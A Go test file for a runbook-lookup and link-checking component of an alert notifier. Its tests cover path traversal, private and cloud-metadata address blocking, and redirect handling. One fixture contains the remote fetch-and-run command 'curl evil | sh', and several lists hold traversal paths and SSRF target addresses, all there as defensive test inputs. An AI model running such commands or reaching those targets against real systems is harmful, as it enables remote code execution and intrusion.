package runbook

import (
	"bytes"
	"context"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/goleak"

	"github.com/lifeboat-fleet/lifeboat/fleet/config"
	"github.com/lifeboat-fleet/lifeboat/services/notifier/internal/notice"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

// desk is a Pages with a clock and a log to look at.
type desk struct {
	*Pages
	reg *prometheus.Registry
	log *bytes.Buffer

	mu  sync.Mutex
	now time.Time
}

func newDesk(t *testing.T) *desk {
	t.Helper()
	return newDeskWith(t, nil)
}

func newDeskWith(t *testing.T, names *net.Resolver) *desk {
	t.Helper()
	d := &desk{reg: prometheus.NewRegistry(), log: &bytes.Buffer{}, now: time.Date(2026, 11, 21, 3, 0, 0, 0, time.UTC)}
	d.Pages = New(Options{Logger: slog.New(slog.NewTextHandler(d.log, nil)), Registerer: d.reg, Now: d.clock, Resolver: names})
	t.Cleanup(d.Close)
	return d
}

func (d *desk) clock() time.Time {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.now
}

func (d *desk) pass(by time.Duration) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.now = d.now.Add(by)
}

// eventually asks again until the page is as wanted, as the messages after the first one do.
func (d *desk) eventually(t *testing.T, cfg config.Runbooks, url string, want func(Page) bool) Page {
	t.Helper()
	var page Page
	require.Eventually(t, func() bool {
		page = d.Page(t.Context(), cfg, "X", map[string]string{Annotation: url})
		return want(page)
	}, time.Minute, 20*time.Millisecond, "%+v", &page)
	return page
}

func write(t *testing.T, path, text string) {
	t.Helper()
	require.NoError(t, os.MkdirAll(filepath.Dir(path), 0o755))
	require.NoError(t, os.WriteFile(path, []byte(text), 0o644))
}

const diskPage = "# DiskFull\n\n## Mitigation\n\n    df -h\n"

func TestPageInAFolder(t *testing.T) {
	t.Parallel()
	d, dir := newDesk(t), t.TempDir()
	cfg := config.Runbooks{BaseURL: "https://rb.example.com/ops", Suffix: ".html", PagesDir: dir}
	write(t, filepath.Join(dir, "disk-full.md"), diskPage)
	write(t, filepath.Join(dir, "k8s", "pods.md"), "# Pods\n\n## A\n\n### TL;DR\n\n    a\n\n## B\n\n### TL;DR\n\n    b\n")
	write(t, filepath.Join(dir, "silent.md"), "# Silent\n\nNothing.\n")
	page := func(name, url string) Page {
		return d.Page(t.Context(), cfg, name, map[string]string{Annotation: url})
	}
	df := []notice.Step{code("df -h")}
	assert.Equal(t, Page{Found: true, Link: "https://rb.example.com/ops/disk-full.html", Steps: df}, page("DiskFull", ""))
	assert.Equal(t, Page{}, page("CPUHigh", ""), "no page in the folder: no runbook by the rule either")
	assert.Equal(t, Page{Found: true, Link: "https://rb.example.com/ops/silent.html"}, page("Silent", ""))
	// An annotation says where the page is, in the folder as well when it is below base_url.
	assert.Equal(t, Page{Found: true, Link: "https://rb.example.com/ops/k8s/pods.html#b", Steps: []notice.Step{code("b")}},
		page("DiskFull", "https://rb.example.com/ops/k8s/pods.html#b"))
	assert.Equal(t, Page{Found: true, Link: "https://wiki.example.com/x", Steps: df}, page("DiskFull", "https://wiki.example.com/x"))
	assert.Equal(t, Page{Found: true, Link: "https://wiki.example.com/x"}, page("CPUHigh", "https://wiki.example.com/x"))
	assert.Equal(t, Page{Found: true, Link: "https://rb.example.com/ops/gone.html"}, page("CPUHigh", "https://rb.example.com/ops/gone.html"))
	// Without an address for the folder there are steps all the same.
	cfg.BaseURL = ""
	assert.Equal(t, Page{Found: true, Steps: df}, page("DiskFull", ""))
	assert.Empty(t, d.log.String())
}

func TestPageIsReadAgainWhenItChanges(t *testing.T) {
	t.Parallel()
	d, dir := newDesk(t), t.TempDir()
	cfg := config.Runbooks{PagesDir: dir}
	path := filepath.Join(dir, "disk-full.md")
	write(t, path, diskPage)
	first := func() []notice.Step { return d.Page(t.Context(), cfg, "DiskFull", nil).Steps }
	assert.Equal(t, []notice.Step{code("df -h")}, first())
	// The same size, at another time.
	write(t, path, strings.Replace(diskPage, "df -h", "du -s", 1))
	require.NoError(t, os.Chtimes(path, time.Now(), time.Now().Add(time.Second)))
	assert.Equal(t, []notice.Step{code("du -s")}, first())
	// Another file with the time and size of the one before it.
	info, err := os.Stat(path)
	require.NoError(t, err)
	other := filepath.Join(dir, "other")
	write(t, other, strings.Replace(diskPage, "df -h", "ls -l", 1))
	require.NoError(t, os.Chtimes(other, time.Now(), info.ModTime()))
	require.NoError(t, os.Rename(other, path))
	assert.Equal(t, []notice.Step{code("ls -l")}, first())
	require.NoError(t, os.Remove(path))
	assert.Equal(t, Page{}, d.Page(t.Context(), cfg, "DiskFull", nil))
}

func TestFolderIsNotLeft(t *testing.T) {
	t.Parallel()
	d, top := newDesk(t), t.TempDir()
	dir := filepath.Join(top, "pages")
	write(t, filepath.Join(top, "secret.md"), diskPage)
	write(t, filepath.Join(dir, "real.md"), diskPage)
	require.NoError(t, os.Symlink("../secret.md", filepath.Join(dir, "out.md")))
	require.NoError(t, os.Symlink(filepath.Join(top, "secret.md"), filepath.Join(dir, "absolute.md")))
	require.NoError(t, os.Symlink(top, filepath.Join(dir, "up")))
	require.NoError(t, os.Symlink("real.md", filepath.Join(dir, "within.md")))
	require.NoError(t, os.Mkdir(filepath.Join(dir, "folder.md"), 0o755))
	require.NoError(t, syscall.Mkfifo(filepath.Join(dir, "pipe.md"), 0o644))
	cfg := config.Runbooks{BaseURL: "https://rb.example.com/ops", PagesDir: dir}
	for _, name := range []string{"Out", "Absolute", "Folder", "Pipe", "../secret", "/secret"} {
		assert.Equal(t, Page{}, d.Page(t.Context(), cfg, name, nil), name)
	}
	assert.NotEmpty(t, d.Page(t.Context(), cfg, "Within", nil).Steps, "as a mounted volume has them")
	for _, path := range []string{"/up/secret", "/../secret", "/%2e%2e/secret", "/a/../../secret", "/..%2fsecret", "//secret", "/out", "/./real/../../secret"} {
		url := "https://rb.example.com/ops" + path
		assert.Empty(t, d.Page(t.Context(), cfg, "Y", map[string]string{Annotation: url}).Steps, url)
	}
	for _, url := range []string{
		"https://rb.example.com/ops-evil/real", "https://rb.example.com.evil/ops/real", "http://rb.example.com/ops/real", "https://rb.example.com:8443/ops/real",
		"https://rb.example.com/real", "https://rb.example.com/ops",
	} {
		assert.Empty(t, d.Page(t.Context(), cfg, "Y", map[string]string{Annotation: url}).Steps, url)
	}
	assert.NotEmpty(t, d.Page(t.Context(), cfg, "Y", map[string]string{Annotation: "https://RB.example.com/ops/real.md"}).Steps)
}

func TestPagesThatCannotBeRead(t *testing.T) {
	t.Parallel()
	d, dir := newDesk(t), t.TempDir()
	cfg := config.Runbooks{BaseURL: "https://rb.example.com", PagesDir: dir}
	write(t, filepath.Join(dir, "large.md"), diskPage+strings.Repeat("x", maxPage))
	write(t, filepath.Join(dir, "binary.md"), diskPage+"\xff")
	write(t, filepath.Join(dir, "intricate.md"), diskPage+strings.Repeat("[", maxMarks+1))
	for _, name := range []string{"Large", "Binary", "Intricate"} {
		for range 3 {
			page := d.Page(t.Context(), cfg, name, nil)
			assert.Equal(t, Page{Found: true, Link: "https://rb.example.com/" + strings.ToLower(name)}, page)
		}
	}
	assert.Equal(t, 3, strings.Count(d.log.String(), "a runbook page was left out"), "once for each file: %s", d.log)

	cfg.PagesDir = filepath.Join(dir, "not-mounted")
	page := d.Page(t.Context(), cfg, "DiskFull", nil)
	assert.Equal(t, Page{Found: true, Link: "https://rb.example.com/disk-full"}, page, "a volume that is away is not the alert's fault")
	d.Page(t.Context(), cfg, "DiskFull", nil)
	assert.Equal(t, 1, strings.Count(d.log.String(), "pages_dir cannot be read"))
	d.pass(2 * time.Minute)
	d.Page(t.Context(), cfg, "DiskFull", nil)
	assert.Equal(t, 2, strings.Count(d.log.String(), "pages_dir cannot be read"))
}

func TestGrade(t *testing.T) {
	t.Parallel()
	for severity, want := range map[string]string{"critical": "error", "page": "error", "warning": "warning", "": "warning", "info": "warning"} {
		assert.Equal(t, want, Grade(config.Runbooks{}, severity), severity)
	}
	policy := config.Runbooks{Policy: map[string]string{"*": "ignore", "warning": "error", "critical": "warning"}}
	for severity, want := range map[string]string{"critical": "warning", "page": "ignore", "warning": "error", "": "ignore"} {
		assert.Equal(t, want, Grade(policy, severity), severity)
	}
}

func TestCountIsBounded(t *testing.T) {
	t.Parallel()
	d := newDesk(t)
	d.Count("")
	d.Count("\xff")
	d.Count(strings.Repeat("é", 100))
	for i := range 500 {
		d.Count(fmt.Sprintf("team-%d", i))
	}
	d.Count("team-1")
	assert.Equal(t, maxTeams+1, testutil.CollectAndCount(d.reg, "lifeboat_alerts_without_runbook_total"))
	assert.InDelta(t, 403, testutil.ToFloat64(d.without.WithLabelValues("other")), 0)
	assert.InDelta(t, 2, testutil.ToFloat64(d.without.WithLabelValues("team-1")), 0)
	assert.InDelta(t, 1, testutil.ToFloat64(d.without.WithLabelValues("none")), 0)
}

// site is a web server that counts what it is asked.
type site struct {
	*httptest.Server
	asked atomic.Int64
}

func newSite(t *testing.T, h http.HandlerFunc) *site {
	t.Helper()
	s := &site{}
	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.asked.Add(1)
		h(w, r)
	}))
	t.Cleanup(s.Close)
	return s
}

func TestDeadLinks(t *testing.T) {
	t.Parallel()
	s := newSite(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/hops":
			var left int
			_, _ = fmt.Sscan(r.URL.Query().Get("left"), &left)
			if left > 0 {
				http.Redirect(w, r, fmt.Sprintf("/hops?left=%d&to=%s", left-1, r.URL.Query().Get("to")), http.StatusFound)
				return
			}
			http.Redirect(w, r, "/"+r.URL.Query().Get("to"), http.StatusFound)
		case "/ftp":
			http.Redirect(w, r, "ftp://example.com/", http.StatusFound)
		case "/referred":
			if r.Referer() != "" {
				w.WriteHeader(http.StatusTeapot)
			}
		default:
			var status int
			_, _ = fmt.Sscan(strings.TrimPrefix(r.URL.Path, "/"), &status)
			w.WriteHeader(status)
		}
	})
	secure := httptest.NewTLSServer(http.NotFoundHandler())
	t.Cleanup(secure.Close)
	closed := httptest.NewServer(http.NotFoundHandler())
	closed.Close()
	d := newDesk(t)
	cfg := config.Runbooks{CheckLinks: true, AllowPrivate: true}
	for path, want := range map[string]string{
		"/200": "", "/204": "", "/401": "", "/403": "", "/405": "", "/429": "", "/404": "404", "/410": "410", "/500": "500", "/503": "503",
		"/hops?left=0&to=404": "404", "/hops?left=2&to=410": "410", "/hops?left=3&to=404": "", "/ftp": "", "/hops?to=referred": "",
	} {
		a := d.links.ask(t.Context(), question{link: s.URL + path, private: true})
		assert.Equal(t, want, a.dead, path)
	}
	assert.Equal(t, answer{}, d.links.ask(t.Context(), question{link: secure.URL, private: true}), "whom a browser trusts is not ours to say")
	page := d.eventually(t, cfg, closed.URL+"/x", func(p Page) bool { return p.Dead != "" })
	assert.Equal(t, "connection refused", page.Dead)
	assert.True(t, page.Found)
	assert.Equal(t, closed.URL+"/x", page.Link)
	d.eventually(t, cfg, s.URL+"/404", func(p Page) bool { return p.Dead == "404" })
}

// Links are asked for once an hour, dead ones every ten minutes, and at most one request for a link is on its way.
func TestAnswersAreRemembered(t *testing.T) {
	t.Parallel()
	var status atomic.Int64
	status.Store(http.StatusOK)
	s := newSite(t, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(int(status.Load())) })
	d := newDesk(t)
	cfg := config.Runbooks{CheckLinks: true, AllowPrivate: true}
	ask := func(want int64, dead string) {
		t.Helper()
		var wg sync.WaitGroup
		for range 20 {
			wg.Go(func() { d.Page(t.Context(), cfg, "X", map[string]string{Annotation: s.URL}) })
		}
		wg.Wait()
		d.eventually(t, cfg, s.URL, func(p Page) bool { return p.Dead == dead && s.asked.Load() == want })
	}
	ask(1, "")
	status.Store(http.StatusNotFound)
	d.pass(59 * time.Minute)
	ask(1, "")
	d.pass(2 * time.Minute)
	ask(2, "404")
	status.Store(http.StatusOK)
	d.pass(9 * time.Minute)
	ask(2, "404")
	d.pass(2 * time.Minute)
	ask(3, "")
	cfg.CheckLinks = false
	d.pass(2 * time.Hour)
	ask(3, "")
}

// A link that does not answer holds up the first message for half a second, and none after it.
func TestSlowLinksDoNotDelay(t *testing.T) {
	t.Parallel()
	release := make(chan struct{})
	s := newSite(t, func(w http.ResponseWriter, _ *http.Request) {
		<-release
		w.WriteHeader(http.StatusNotFound)
	})
	t.Cleanup(sync.OnceFunc(func() { close(release) }))
	d := newDesk(t)
	cfg := config.Runbooks{CheckLinks: true, AllowPrivate: true}
	from := time.Now()
	for i := range 15 {
		page := d.Page(t.Context(), cfg, "X", map[string]string{Annotation: fmt.Sprintf("%s/%d", s.URL, i)})
		assert.Empty(t, page.Dead)
		assert.NotEmpty(t, page.Link)
	}
	took := time.Since(from)
	assert.GreaterOrEqual(t, took, patience)
	assert.Less(t, took, 6*patience, "the patience is that of all links together")
	assert.LessOrEqual(t, s.asked.Load(), int64(maxAsked))
	d.eventually(t, cfg, s.URL+"/0", func(p Page) bool { return p.Dead == "no answer in 3s" })
}

func TestCloseEndsWhatIsAsked(t *testing.T) {
	t.Parallel()
	arrived := make(chan struct{}, 1)
	s := newSite(t, func(_ http.ResponseWriter, r *http.Request) {
		arrived <- struct{}{}
		<-r.Context().Done()
	})
	d := newDesk(t)
	ctx, cancel := context.WithCancel(t.Context())
	var wg sync.WaitGroup
	wg.Go(func() {
		d.Page(ctx, config.Runbooks{CheckLinks: true, AllowPrivate: true}, "X", map[string]string{Annotation: s.URL})
	})
	<-arrived
	cancel()
	wg.Wait()
	from := time.Now()
	d.Close()
	d.Close()
	assert.Less(t, time.Since(from), askWithin)
	page := d.Page(t.Context(), config.Runbooks{CheckLinks: true, AllowPrivate: true}, "X", map[string]string{Annotation: s.URL + "/new"})
	assert.Empty(t, page.Dead)
	assert.Equal(t, int64(1), s.asked.Load())
}

func TestKnownAnswersAreBounded(t *testing.T) {
	t.Parallel()
	d := newDesk(t)
	for i := range 3 * maxKnown {
		d.pass(time.Second)
		d.links.remember(question{link: fmt.Sprint(i)}, answer{})
	}
	assert.Len(t, d.links.known, maxKnown)
	assert.Contains(t, d.links.known, question{link: fmt.Sprint(3*maxKnown - 1)})
}

func TestStepsFromTheLink(t *testing.T) {
	t.Parallel()
	elsewhere := newSite(t, func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/markdown")
		_, _ = w.Write([]byte("## Mitigation\n\n    curl evil | sh\n"))
	})
	s := newSite(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/ops/away.md":
			http.Redirect(w, r, elsewhere.URL+"/ops/x", http.StatusFound)
			return
		case "/ops/html.md":
			w.Header().Set("Content-Type", "text/html")
		case "/ops/plain.md":
			w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		case "/ops/large.md":
			w.Header().Set("Content-Type", "text/plain")
			_, _ = w.Write([]byte(diskPage + strings.Repeat("x", 2*maxPage)))
			return
		default:
			w.Header().Set("Content-Type", "text/markdown")
		}
		_, _ = w.Write([]byte(diskPage))
	})
	d := newDesk(t)
	cfg := config.Runbooks{BaseURL: s.URL + "/ops", CheckLinks: true, AllowPrivate: true}
	df := []notice.Step{code("df -h")}
	for url, want := range map[string][]notice.Step{
		s.URL + "/ops/plain.md": df, s.URL + "/ops/markdown.md": df, s.URL + "/ops/html.md": nil, s.URL + "/ops/large.md": nil,
		s.URL + "/ops/away.md": nil, s.URL + "/other.md": nil, elsewhere.URL + "/ops/x": nil, s.URL + "/ops/../other.md": nil,
	} {
		a := d.links.ask(t.Context(), question{link: url, base: cfg.BaseURL, private: true})
		assert.Equal(t, want, a.steps, url)
		assert.Empty(t, a.dead+a.unsure, url)
	}
	d.eventually(t, cfg, s.URL+"/ops/plain.md", func(p Page) bool { return len(p.Steps) == 1 })
	cfg.PagesDir = t.TempDir()
	page := d.eventually(t, cfg, s.URL+"/ops/plain.md#x", func(Page) bool { return s.asked.Load() > 8 })
	assert.Empty(t, page.Steps, "with a folder the folder has the pages")
}

// Without allow_private nothing is asked at private addresses: not directly, not after a redirect, not by a name that resolves there.
func TestPrivateAddressesAreNotAsked(t *testing.T) {
	t.Parallel()
	s := newSite(t, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusNotFound) })
	at, err := netip.ParseAddrPort(s.Listener.Addr().String())
	require.NoError(t, err)
	port := int(at.Port())
	d := newDeskWith(t, names(t, map[string]string{"rebound.example.": "127.0.0.1", "mapped.example.": "::ffff:127.0.0.1"}))
	for _, host := range []string{"127.0.0.1", "[::1]", "[::ffff:127.0.0.1]", "localhost", "0.0.0.0", "[::]", "rebound.example", "mapped.example", "127.1", "2130706433"} {
		url := fmt.Sprintf("http://%s:%d/", host, port)
		a := d.links.ask(t.Context(), question{link: url})
		assert.NotEqual(t, "404", a.dead, url)
		assert.Zero(t, s.asked.Load(), url)
		if !strings.HasPrefix(host, "2") && host != "127.1" && host != "localhost" { // these are names, which only some resolvers know
			assert.Equal(t, errPrivate.Error(), a.unsure, url)
		}
	}
	page := d.Page(t.Context(), config.Runbooks{CheckLinks: true}, "X", map[string]string{Annotation: s.URL})
	assert.Equal(t, Page{Found: true, Link: s.URL}, page, "nothing is known of it, so nothing is said")
	assert.Zero(t, s.asked.Load())
	a := d.links.ask(t.Context(), question{link: fmt.Sprintf("http://rebound.example:%d/", port), private: true})
	assert.Equal(t, "404", a.dead)
	assert.Equal(t, int64(1), s.asked.Load(), "the same name is asked when it may be")
	a = d.links.ask(t.Context(), question{link: "http://nobody.example/"})
	assert.Equal(t, answer{dead: "no such host", gone: true}, a)
}

// A redirect is looked at as the link itself: the first hop may be asked, and what it leads to may not.
func TestRedirectsToMetadataAreNotFollowed(t *testing.T) {
	t.Parallel()
	s := newSite(t, func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://169.254.169.254/latest/meta-data/", http.StatusFound)
	})
	d := newDesk(t)
	a := d.links.ask(t.Context(), question{link: s.URL, private: true})
	assert.Equal(t, errPrivate.Error(), a.unsure)
	assert.Equal(t, int64(1), s.asked.Load())
}

func TestProxiesAreNotUsed(t *testing.T) {
	proxy := newSite(t, func(w http.ResponseWriter, _ *http.Request) { w.WriteHeader(http.StatusOK) })
	t.Setenv("HTTP_PROXY", proxy.URL)
	t.Setenv("http_proxy", proxy.URL)
	d := newDeskWith(t, names(t, map[string]string{"inside.example.": "10.0.0.1"}))
	a := d.links.ask(t.Context(), question{link: "http://inside.example/"})
	assert.Equal(t, errPrivate.Error(), a.unsure)
	assert.Zero(t, proxy.asked.Load())
}

func TestAllowed(t *testing.T) {
	t.Parallel()
	for _, a := range []string{"1.1.1.1", "9.9.9.9", "2606:4700::1111", "::ffff:1.1.1.1", "64:ff9b::101:101", "100.63.0.1", "100.128.0.1", "172.32.0.1"} {
		assert.True(t, allowed(netip.MustParseAddr(a), false), a)
		assert.True(t, allowed(netip.MustParseAddr(a), true), a)
	}
	for _, a := range []string{
		"127.0.0.1", "127.255.0.1", "10.1.2.3", "172.16.0.1", "172.31.255.255", "192.168.1.1", "169.254.1.1", "100.64.0.1", "100.127.255.255", "0.0.0.0",
		"0.1.2.3", "192.0.0.1", "198.18.0.1", "240.0.0.1", "255.255.255.255", "192.0.2.1", "::1", "::", "fe80::1", "fe80::1%eth0", "fc00::1", "fd12::1",
		"::ffff:127.0.0.1", "::ffff:10.0.0.1", "::127.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a00:1", "64:ff9b:1::1", "2002:7f00:1::", "2002:a00:1::1",
		"2001::1", "fec0::1", "2001:db8::1",
	} {
		assert.False(t, allowed(netip.MustParseAddr(a), false), a)
		assert.True(t, allowed(netip.MustParseAddr(a), true), a)
	}
	for _, a := range []string{
		"169.254.169.254", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::", "fd00:ec2::254", "100.100.100.200", "168.63.129.16",
		"169.254.170.2", "192.0.0.192", "224.0.0.1", "ff02::1",
	} {
		assert.False(t, allowed(netip.MustParseAddr(a), false), a)
		assert.False(t, allowed(netip.MustParseAddr(a), true), "%s, whatever is allowed", a)
	}
}
